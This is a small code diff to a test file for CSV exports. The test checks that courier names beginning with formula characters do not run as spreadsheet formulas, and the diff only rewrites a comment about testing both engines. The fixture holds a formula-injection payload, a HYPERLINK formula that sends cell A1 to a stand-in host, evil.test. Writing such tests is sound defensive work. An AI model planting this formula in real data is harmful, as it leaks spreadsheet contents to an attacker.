@@ -7,7 +7,8 @@ import { merchantWithCityWarehouse } from '../../../test/kit/warehouses.js';
 
 // CSV exports opened in a spreadsheet: a text cell starting with =, +, - or @ would run as a
 // formula. The operator's catalogue names the couriers, so a hostile name is the way such a cell
-// reaches an export; the rendering itself does not depend on the engine.
+// reaches an export. On both engines: the rows, their amounts and their order are each engine's
+// query, so a cell written differently on one would be missed by testing the other.
 
 const HOSTILE: Record<string, string> = {
   [SHADOWFAX]: '=HYPERLINK("http://evil.test/?"&A1,"Shadowfax")',
